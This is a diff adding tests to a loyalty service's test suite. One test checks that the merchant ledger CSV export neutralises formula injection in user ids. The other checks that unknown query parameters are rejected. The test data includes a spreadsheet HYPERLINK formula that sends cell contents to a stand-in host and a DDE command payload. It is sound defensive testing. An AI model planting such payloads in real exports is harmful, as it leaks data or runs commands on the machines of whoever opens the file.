@@ -7,7 +7,7 @@ import http from 'node:http';
 import pg from 'pg';
 import { v4 as uuid } from 'uuid';
 import { startTestService, type TestService } from '../support/service.ts';
-import { TEST_JWT_SECRET } from '../support/http.ts';
+import { TEST_JWT_SECRET, tokenFor } from '../support/http.ts';
 import { loyalty } from '../support/loyalty.ts';
 import { walletStream } from '../../domain/wallets/wallet.ts';
 
@@ -251,6 +251,46 @@ test('the ledger streams as RFC 4180 CSV: a header, one row per line, quoted fie
   t.regex(local.body.error.message, /with its offset/);
   t.is((await csv('from=2020-01-01T12:00:00.5%2B01:00')).status, 200);
   t.is((await csv('from=2020-01-01T11:00:00Z')).status, 200);
+});
+
+test('ids in the CSV that a token chose are written inert too: a formula as consumer_id or actor_id gets a leading apostrophe', async (t) => {
+  const { call } = world;
+  // A token's `sub` is any text of 1 to 200 characters: a consumer's and a merchant's user ids here are formulas.
+  const consumerId = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+  const merchantId = '+cmd|" /C calc"!A0';
+  const token = await tokenFor(consumerId, `formula.${uuid().slice(0, 8)}@example.com`);
+  t.is((await call('POST', '/api/v1/me/register', { token, body: { role: 'consumer' } })).status, 201);
+  const merchantToken = await tokenFor(merchantId, `formula.${uuid().slice(0, 8)}@cafe.test`);
+  t.is((await call('POST', '/api/v1/me/register', { token: merchantToken, body: { role: 'client', businessName: `Cafe ${uuid().slice(0, 6)}` } })).status, 201);
+  const approval = await call('PATCH', `/api/v1/admin/users/${encodeURIComponent(merchantId)}/approve`, { token: (await world.admin()).token });
+  t.is(approval.status, 200);
+  const wallet = { walletId: uuid(), tenantId: approval.body.user.tenantId as string, consumerId };
+  await world.settled(await world.credit(wallet, 10));
+  const adjusted = await call('POST', `/api/v1/client/wallets/${wallet.walletId}/adjust`, { token: merchantToken, body: { points: 1, reason: 'welcome' } });
+  t.is(adjusted.status, 200);
+  await world.settled(adjusted.body.position);
+
+  const response = await fetch(`${service.url}/api/v1/client/ledger.csv`, { headers: { authorization: `Bearer ${merchantToken}` } });
+  t.is(response.status, 200);
+  const [header, ...lines] = parseCsv(await response.text());
+  const rows = lines.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
+  t.is(rows.length, 2);
+  t.deepEqual(rows.map((r) => r.consumer_id), [`'${consumerId}`, `'${consumerId}`]);
+  t.like(rows[1], { kind: 'merchant_adjustment', actor_id: `'${merchantId}`, reason: 'welcome', wallet_id: wallet.walletId, points: '1' });
+});
+
+test('the CSV and the summary refuse a parameter they do not know: a misspelt `from` would widen the range', async (t) => {
+  const m = await world.merchant();
+  for (const path of ['/api/v1/client/ledger.csv', '/api/v1/client/program/summary']) {
+    const refused = await world.call('GET', `${path}?frm=2026-12-09`, { token: m.token });
+    t.is(refused.status, 400, path);
+    t.is(refused.body.error.code, 'VALIDATION_FAILED', path);
+    t.regex(refused.body.error.message, /query: unknown parameter "frm"/, path);
+  }
+  // An administrator names the workspace with tenantId: that one is known.
+  const admin = await world.admin();
+  t.is((await world.call('GET', `/api/v1/client/ledger.csv?tenantId=${m.tenantId}&from=2026-01-01`, { token: admin.token })).status, 200);
+  t.is((await world.call('GET', `/api/v1/client/program/summary?tenantId=${m.tenantId}&interval=week`, { token: admin.token })).status, 200);
 });
 
 /** A download that stops reading once the answer's head has come: its status and its response, paused. */
